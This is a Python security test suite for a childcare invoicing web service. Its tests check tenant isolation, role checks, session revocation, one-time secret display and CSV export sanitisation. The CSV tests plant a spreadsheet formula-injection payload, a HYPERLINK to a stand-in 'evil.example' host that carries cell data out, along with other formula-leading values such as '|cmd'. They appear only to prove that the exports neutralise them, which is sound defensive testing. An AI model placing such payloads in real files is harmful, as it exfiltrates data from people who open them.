"""Security review: attacks on the new nursery, parent and DWP pages over real HTTP. Each test
asserts the SAFE behaviour, so a failing test is a vulnerability (see the report)."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import urlsplit

from sqlalchemy import func, select

from claimants import service as claimants
from claimants.models import Consent
from config.auth import SYSTEM, StaffRole
from config.csv_files import csv_text, safe_cell
from config.notify import Notification
from invoicing import service
from invoicing.models import InvoiceDraft, Payment
from invoicing.service import drafts as draft_service
from providers import accounts
from providers.models import ApiClient, ProviderInvitation, ProviderUser, ProviderUserRole
from tests.conftest import LiveServer
from tests.factories import (
    PASSWORD,
    World,
    create_child,
    create_consent,
    create_parent,
    create_provider,
    create_provider_user,
    create_staff,
    give_password,
    invoice_input,
)
from tests.http import User, page_csrf, sign_in_parent, sign_in_provider, sign_in_staff


def path(response) -> str:
    return urlsplit(response.url).path


def admin_browser(live_server: LiveServer, db, provider, admin) -> User:
    secret = give_password(db, admin, second_factor=True)
    user, _ = sign_in_provider(live_server.url, db.get_one(ProviderUser, admin.id).email, PASSWORD, secret)
    return user


def token(user: User) -> str:
    return page_csrf(user.get("/provider/security-code/recovery-codes"))


def post(user: User, url: str, **data: str):
    return user.http.post(f"{user.base_url}{url}", data=data, timeout=30, allow_redirects=False)


# --- 1. nursery team ------------------------------------------------------------------------


def test_admin_of_a_cannot_touch_nursery_bs_team_or_invitations(live_server: LiveServer, db) -> None:
    a, a_admin = create_provider(db)
    b, b_admin = create_provider(db)
    b_staff = create_provider_user(db, b, b_admin)
    b_inv = accounts.invite_colleague(
        db, b_admin, email="x@b.example", name="X", role=ProviderUserRole.STAFF, link_base="http://t/i"
    )
    attacker = admin_browser(live_server, db, a, a_admin)
    csrf = token(attacker)
    for target in (b_staff.id, b_admin.id):
        assert attacker.get(f"/provider/team/{target}/role").status_code == 404
        assert attacker.get(f"/provider/team/{target}/remove").status_code == 404
        assert (
            post(attacker, f"/provider/team/{target}/role", csrf_token=csrf, role="admin").status_code == 404
        )
        assert post(attacker, f"/provider/team/{target}/remove", csrf_token=csrf).status_code == 404
    assert post(attacker, f"/provider/team/invitations/{b_inv.id}/resend", csrf_token=csrf).status_code == 404
    assert post(attacker, f"/provider/team/invitations/{b_inv.id}/cancel", csrf_token=csrf).status_code == 404
    db.expire_all()
    assert db.get_one(ProviderUser, b_staff.id).active and db.get_one(ProviderUser, b_admin.id).active
    assert db.get_one(ProviderUser, b_staff.id).role is ProviderUserRole.STAFF
    inv = db.get_one(ProviderInvitation, b_inv.id)
    assert inv.cancelled_at is None and inv.times_sent == 1
    assert "x@b.example" not in attacker.get("/provider/team").text


def test_staff_cannot_promote_themselves_or_remove_the_admin(live_server: LiveServer, db) -> None:
    a, admin = create_provider(db)
    colleague = create_provider_user(db, a, admin)
    staff, _ = sign_in_provider(live_server.url, db.get_one(ProviderUser, colleague.id).email, PASSWORD)
    csrf = token(staff)
    assert (
        post(staff, f"/provider/team/{colleague.id}/role", csrf_token=csrf, role="admin").status_code == 403
    )
    assert post(staff, f"/provider/team/{admin.id}/remove", csrf_token=csrf).status_code == 403
    assert (
        post(
            staff, "/provider/team/invite", csrf_token=csrf, name="E", email="e@e.example", role="admin"
        ).status_code
        == 403
    )
    db.expire_all()
    assert db.get_one(ProviderUser, colleague.id).role is ProviderUserRole.STAFF
    assert db.get_one(ProviderUser, admin.id).active


def test_removed_colleagues_session_and_csrf_token_stop_working(live_server: LiveServer, db) -> None:
    a, admin = create_provider(db)
    boss = admin_browser(live_server, db, a, admin)
    colleague = create_provider_user(db, a, admin, role="admin")
    victim_email = db.get_one(ProviderUser, colleague.id).email
    them, _ = sign_in_provider(live_server.url, victim_email, PASSWORD)
    their_csrf = token(them)
    cookies = dict(them.http.cookies)
    boss.submit(
        boss.get(f"/provider/team/{colleague.id}/remove"),
        f"Yes, remove {db.get_one(ProviderUser, colleague.id).name}",
    )
    # The removed admin replays their old cookie (a copy, not the one the server may have cleared).
    replay = User(live_server.url)
    replay.http.cookies.update(cookies)
    for url in ("/provider/team", "/provider/software", "/provider/invoices", "/provider/home"):
        assert path(replay.get(url)) == "/provider/sign-in", url
    done = post(replay, f"/provider/team/{admin.id}/remove", csrf_token=their_csrf)
    assert done.status_code in (302, 303, 400, 401, 403) and "/provider/sign-in" in done.headers.get(
        "Location", "/provider/sign-in"
    )
    made = post(
        replay, "/provider/team/invite", csrf_token=their_csrf, name="E", email="e@e.example", role="admin"
    )
    assert made.status_code != 200
    db.expire_all()
    assert db.get_one(ProviderUser, admin.id).active
    assert (
        db.scalar(
            select(func.count())
            .select_from(ProviderInvitation)
            .where(ProviderInvitation.email == "e@e.example")
        )
        == 0
    )


def test_the_last_admin_cannot_be_removed_by_posting_directly(live_server: LiveServer, db) -> None:
    a, admin = create_provider(db)
    boss = admin_browser(live_server, db, a, admin)
    csrf = token(boss)
    assert post(boss, f"/provider/team/{admin.id}/role", csrf_token=csrf, role="staff").status_code == 400
    assert post(boss, f"/provider/team/{admin.id}/remove", csrf_token=csrf).status_code == 400
    db.expire_all()
    me = db.get_one(ProviderUser, admin.id)
    assert me.active and me.role is ProviderUserRole.ADMIN


# --- 2. API client secret -------------------------------------------------------------------


def _new_client(user: User, name: str = "Soft"):
    return user.submit(
        user.get("/provider/software/new"),
        "Create client",
        name=name,
        redirect_uris="https://soft.example/cb",
    )


def test_secret_page_is_shown_once_and_not_to_another_nursery(live_server: LiveServer, db) -> None:
    a, a_admin = create_provider(db)
    b, b_admin = create_provider(db)
    owner = admin_browser(live_server, db, a, a_admin)
    shown = _new_client(owner)
    client = db.scalars(select(ApiClient).where(ApiClient.provider_id == a.id)).one()
    assert (
        path(shown) == f"/provider/software/{client.id}/secret"
        and shown.headers["Cache-Control"] == "no-store"
    )
    attacker = admin_browser(live_server, db, b, b_admin)
    assert attacker.get(f"/provider/software/{client.id}/secret").status_code == 404
    again = owner.get(f"/provider/software/{client.id}/secret")
    # The first page carried the secret; find it and check the reload does not.
    secrets_on_first = set(re.findall(r"[A-Za-z0-9_\-]{32,}", shown.text)) - set(
        re.findall(r"[A-Za-z0-9_\-]{32,}", again.text)
    )
    assert secrets_on_first, "no secret seen on the first page"
    assert db.scalar(select(func.count()).select_from(ApiClient)) == 1
    # Another nursery cannot rotate or revoke A's client.
    csrf = token(attacker)
    assert post(attacker, f"/provider/software/{client.id}/rotate", csrf_token=csrf).status_code == 404
    assert post(attacker, f"/provider/software/{client.id}/revoke", csrf_token=csrf).status_code == 404
    db.expire_all()
    assert db.get_one(ApiClient, client.id).revoked_at is None if hasattr(ApiClient, "revoked_at") else True


def test_an_old_session_cookie_copied_before_the_reveal_shows_nothing(live_server: LiveServer, db) -> None:
    a, a_admin = create_provider(db)
    owner = admin_browser(live_server, db, a, a_admin)
    form = owner.get("/provider/software/new")
    posted = owner.http.post(
        f"{live_server.url}/provider/software/new",
        data={"csrf_token": page_csrf(form), "name": "Soft", "redirect_uris": "https://soft.example/cb"},
        allow_redirects=False,
        timeout=30,
    )
    target = posted.headers["Location"]
    copy = User(live_server.url)
    copy.http.cookies.update(dict(owner.http.cookies))
    first = owner.get(target)
    second = copy.get(target)  # the same cookie, replayed after the reveal
    assert first.status_code == 200 and second.status_code == 200
    tokens = set(re.findall(r"[A-Za-z0-9_\-]{32,}", first.text)) - set(
        re.findall(r"[A-Za-z0-9_\-]{32,}", second.text)
    )
    assert tokens  # the secret was on the first and is not on the replay


# --- 3. drafts ------------------------------------------------------------------------------


def _form(consent_id, number: str) -> dict[str, list[str]]:
    return {"consent": [str(consent_id)], "invoice_number": [number], "lines-0-description": ["Days"]}


def test_nursery_b_cannot_open_edit_or_delete_nursery_as_draft(live_server: LiveServer, db) -> None:
    world = World(db)
    draft = draft_service.save_draft(db, world.provider_user, _form(world.consent.id, "A-SECRET-1"))
    b, b_admin = create_provider(db)
    attacker = admin_browser(live_server, db, b, b_admin)
    csrf = token(attacker)
    assert attacker.get(f"/provider/invoices/drafts/{draft.id}").status_code == 404
    assert attacker.get(f"/provider/invoices/drafts/{draft.id}/delete").status_code == 404
    assert post(attacker, f"/provider/invoices/drafts/{draft.id}/delete", csrf_token=csrf).status_code == 404
    assert (
        post(
            attacker,
            f"/provider/invoices/drafts/{draft.id}",
            csrf_token=csrf,
            action="save",
            invoice_number="PWN",
        ).status_code
        == 404
    )
    assert (
        post(
            attacker, f"/provider/invoices/drafts/{draft.id}", csrf_token=csrf, invoice_number="PWN"
        ).status_code
        == 404
    )
    assert "A-SECRET-1" not in attacker.get("/provider/invoices/drafts").text
    db.expire_all()
    kept = db.get_one(InvoiceDraft, draft.id)
    assert kept.invoice_number == "A-SECRET-1" and kept.provider_id == world.provider.id


def test_a_draft_naming_another_nurserys_consent_keeps_no_link_to_it(live_server: LiveServer, db) -> None:
    world = World(db)
    b, b_admin = create_provider(db)
    b_parent = create_parent(db)
    create_consent(db, b_admin, b_parent, create_child(db, b_parent))
    attacker = admin_browser(live_server, db, b, b_admin)
    attacker.http.post(
        f"{live_server.url}/provider/invoices/new",
        data={
            "csrf_token": token(attacker),
            "action": "save",
            "consent": str(world.consent.id),
            "invoice_number": "B-1",
        },
        timeout=30,
    )
    draft = db.scalars(select(InvoiceDraft).where(InvoiceDraft.provider_id == b.id)).one()
    assert draft.consent_id is None
    opened = attacker.get(f"/provider/invoices/drafts/{draft.id}")
    assert f'value="{world.consent.id}"' not in opened.text  # A's child is not offered
    # Sending it: the check page must refuse A's consent.
    sent = attacker.http.post(
        f"{live_server.url}/provider/invoices/drafts/{draft.id}",
        data={
            "csrf_token": token(attacker),
            "consent": str(world.consent.id),
            "invoice_number": "B-1",
            "issued_on": ["1", "1", "2026"],
            "care_from": ["1", "1", "2026"],
            "care_to": ["31", "1", "2026"],
            "lines-0-description": "Days",
            "lines-0-amount": "100.00",
            "lines-0-eligible": "yes",
            "lines-0-hours": "10",
        },
        timeout=30,
    )
    if path(sent) == "/provider/invoices/new/check":
        attacker.submit(sent, "Send invoice") if "Send invoice" in sent.text else None
    assert db.scalar(select(func.count()).select_from(Invoice).where(Invoice.provider_id == b.id)) == 0
    assert (
        db.scalar(select(func.count()).select_from(Invoice).where(Invoice.consent_id == world.consent.id))
        == 0
    )


from invoicing.models import Invoice  # noqa: E402


def test_an_unverified_nursery_cannot_send_a_draft(live_server: LiveServer, db) -> None:
    import pytest

    from config.errors import DomainError, Forbidden

    provider, admin = create_provider(db, verified=False)
    parent = create_parent(db)
    child = create_child(db, parent)
    try:
        consent = create_consent(db, admin, parent, child)
    except (DomainError, Forbidden):
        pytest.skip("an unverified provider cannot even get consent")
    draft = draft_service.save_draft(db, admin, _form(consent.id, "U-1"))
    with pytest.raises((DomainError, Forbidden)):
        draft_service.send_draft(db, admin, draft.id, invoice_input(consent, number="U-1"))
    db.rollback()
    assert db.scalar(select(func.count()).select_from(Invoice).where(Invoice.provider_id == provider.id)) == 0
    assert db.get(InvoiceDraft, draft.id) is not None


def test_copy_last_month_twice_makes_drafts_once(live_server: LiveServer, db) -> None:
    world = World(db)
    world.submit(number="LAST-1")
    user = admin_browser(live_server, db, world.provider, world.provider_user)
    page = user.get("/provider/invoices/drafts")
    csrf = page_csrf(page)
    for _ in range(3):
        post(user, "/provider/invoices/drafts/copy-last-month", csrf_token=csrf)
    assert db.scalar(select(func.count()).select_from(InvoiceDraft)) == 1
    # Another nursery's copy does not copy A's invoices.
    b, b_admin = create_provider(db)
    other = admin_browser(live_server, db, b, b_admin)
    post(other, "/provider/invoices/drafts/copy-last-month", csrf_token=token(other))
    assert (
        db.scalar(select(func.count()).select_from(InvoiceDraft).where(InvoiceDraft.provider_id == b.id)) == 0
    )


# --- 4. invoice CSV -------------------------------------------------------------------------


def test_invoice_csv_holds_only_own_invoices_and_neutralises_formulas(live_server: LiveServer, db) -> None:
    world = World(db)
    evil = create_child(db, world.parent, first_name='=HYPERLINK("http://evil.example/?x="&A1,"x")')
    evil_consent = create_consent(db, world.provider_user, world.parent, evil)
    service.submit_invoice(db, world.provider_user, invoice_input(evil_consent, number="+SUM(1,2)"))
    world.submit(number="A-OWN")
    other = World(db)
    other.submit(number="B-OTHER")
    user = admin_browser(live_server, db, world.provider, world.provider_user)
    for params in (
        {},
        {"name": "Sam"},
        {"status": "awaiting_confirmation"},
        {"name": "%"},
        {"name": "B-OTHER"},
    ):
        export = user.get("/provider/invoices.csv", params=params)
        assert export.status_code in (200, 400)
        assert "B-OTHER" not in export.text, params
    rows = list(csv.reader(io.StringIO(user.get("/provider/invoices.csv").content.decode("utf-8-sig"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


def test_csv_cells_that_start_a_formula_in_other_ways() -> None:
    for value in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1+1", "|cmd", "＝1+1"):
        out = csv_text(["h"], [[value]]).split("\r\n", 1)[1]
        cell = next(csv.reader(io.StringIO(out)))[0]
        # A newline-led cell is not run by spreadsheets; the others must be quoted with an apostrophe.
        if value[0] in "=+-@\t\r":
            assert cell.startswith("'"), value
    assert safe_cell(-5) == -5


# --- 5. consent resend ----------------------------------------------------------------------


def test_consent_resend_is_own_nursery_only_and_once_a_day(live_server: LiveServer, db) -> None:
    a, a_admin = create_provider(db)
    parent = create_parent(db)
    parent_row = claimants.repository.get_parent(db, parent.parent_id)
    request = claimants.request_consent(db, a_admin, parent_email=parent_row.email, child_first_name="Sam")
    b, b_admin = create_provider(db)
    attacker = admin_browser(live_server, db, b, b_admin)
    assert (
        post(attacker, f"/provider/consents/{request.id}/resend", csrf_token=token(attacker)).status_code
        == 404
    )
    owner = admin_browser(live_server, db, a, a_admin)
    csrf = token(owner)
    for _ in range(3):
        post(owner, f"/provider/consents/{request.id}/resend", csrf_token=csrf)
    emails = db.scalar(
        select(func.count())
        .select_from(Notification)
        .where(Notification.reference.startswith(f"consent-{request.id}"))
    )
    assert emails == 1  # the request itself; a resend only a day later


# --- 6. claiming an emailed request ---------------------------------------------------------


def test_a_parent_cannot_take_a_request_sent_to_another_registered_parent(
    live_server: LiveServer, db
) -> None:
    _, a_admin = create_provider(db)
    victim = create_parent(db)
    victim_row = claimants.repository.get_parent(db, victim.parent_id)
    request = claimants.request_consent(db, a_admin, parent_email=victim_row.email, child_first_name="Sam")
    assert request.parent_id == victim.parent_id  # addressed to the victim's account
    thief = create_parent(db)
    create_child(db, thief, first_name="Sam")
    browser, _ = sign_in_parent(live_server.url, thief.label)
    page = browser.get(f"/account/consents/{request.id}/claim")
    csrf = page_csrf(page) if page.status_code == 200 else token_of_parent(browser)
    browser.http.post(
        f"{live_server.url}/account/consents/{request.id}/claim", data={"csrf_token": csrf}, timeout=30
    )
    db.expire_all()
    assert db.get_one(Consent, request.id).parent_id == victim.parent_id, (
        "the request was taken from its parent"
    )


def token_of_parent(browser: User) -> str:
    return page_csrf(browser.get("/account/children/new"))


def test_answered_requests_cannot_be_claimed_and_nursery_users_cannot_claim(
    live_server: LiveServer, db
) -> None:
    world = World(db)  # world.consent is authorised
    thief = create_parent(db)
    browser, _ = sign_in_parent(live_server.url, thief.label)
    assert browser.get(f"/account/consents/{world.consent.id}/claim").status_code == 404
    assert browser.get(f"/account/consents/{world.consent.id}/respond").status_code == 404
    db.expire_all()
    assert db.get_one(Consent, world.consent.id).parent_id == world.parent.parent_id
    nursery = admin_browser(live_server, db, world.provider, world.provider_user)
    got = nursery.get(f"/account/consents/{world.consent.id}/claim")
    assert path(got) != f"/account/consents/{world.consent.id}/claim" or got.status_code in (401, 403, 404)


# --- 7. finance search and internal notes ---------------------------------------------------


MARKER = "ZZ-INTERNAL-NOTE-42"


def test_caseworker_note_never_reaches_parent_emails_or_nursery_pages(live_server: LiveServer, db) -> None:
    world = World(db)
    held = world.submit(number="H-1")
    service.confirm_invoice(db, world.parent, held.id)
    service.hold_invoice(db, world.caseworker, held.id, f"{MARKER} hold", "need_information")
    disputed = world.submit(number="D-1", care_from=held.care_from, care_to=held.care_from)
    service.dispute_invoice(db, world.parent, disputed.id, "Not there")
    service.reject_invoice(db, world.caseworker, disputed.id, f"{MARKER} reject", "dispute_upheld")
    outbox = db.scalars(select(Notification)).all()
    templates = {n.template for n in outbox}
    assert {"invoice_held", "dispute_decided"} <= templates, templates
    for note in outbox:
        assert MARKER not in str(note.personalisation), note.template
    nursery = admin_browser(live_server, db, world.provider, world.provider_user)
    parent, _ = sign_in_parent(live_server.url, world.parent.label)
    for user, urls in (
        (
            nursery,
            [
                "/provider/invoices",
                f"/provider/invoices/{held.id}",
                f"/provider/invoices/{disputed.id}",
                "/provider/invoices.csv",
                "/provider/home",
            ],
        ),
        (parent, ["/account/invoices", f"/account/invoices/{held.id}", f"/account/invoices/{disputed.id}"]),
    ):
        for url in urls:
            assert MARKER not in user.get(url).text, url


def test_finance_search_is_for_dwp_staff_only(live_server: LiveServer, db) -> None:
    world = World(db)
    world.submit(number="FIND-ME-1")
    nursery = admin_browser(live_server, db, world.provider, world.provider_user)
    parent, _ = sign_in_parent(live_server.url, world.parent.label)
    for user in (nursery, parent, User(live_server.url)):
        for url in ("/finance/search?q=FIND-ME", "/finance/providers", "/finance/search?q=%25"):
            got = user.get(url)
            assert "FIND-ME-1" not in got.text and world.provider.name not in got.text, url
    create_staff(db, StaffRole.AUDITOR, name="Audrey Auditor")
    auditor, _ = sign_in_staff(live_server.url, "Audrey Auditor")
    found = auditor.get("/finance/search", params={"q": "FIND-ME"})
    assert found.status_code == 200
    assert "<form" not in found.text or "Approve" not in found.text  # an auditor reads, never acts


# --- 8. remittance --------------------------------------------------------------------------


def test_another_nurserys_payment_is_not_found(live_server: LiveServer, db) -> None:
    world = World(db)
    world.approved_invoice()
    batch = world.approved_batch()
    service.submit_batch(db, world.officer, batch.id)
    payment = db.scalars(select(Payment).where(Payment.batch_id == batch.id)).one()
    service.record_payment_sent(db, SYSTEM, payment.id, "tr_1")
    b, b_admin = create_provider(db)
    attacker = admin_browser(live_server, db, b, b_admin)
    assert attacker.get(f"/provider/payments/{payment.id}/remittance.csv").status_code == 404
    assert attacker.get(f"/provider/payments/{payment.id}").status_code == 404
    owner = admin_browser(live_server, db, world.provider, world.provider_user)
    assert owner.get(f"/provider/payments/{payment.id}/remittance.csv").status_code == 200
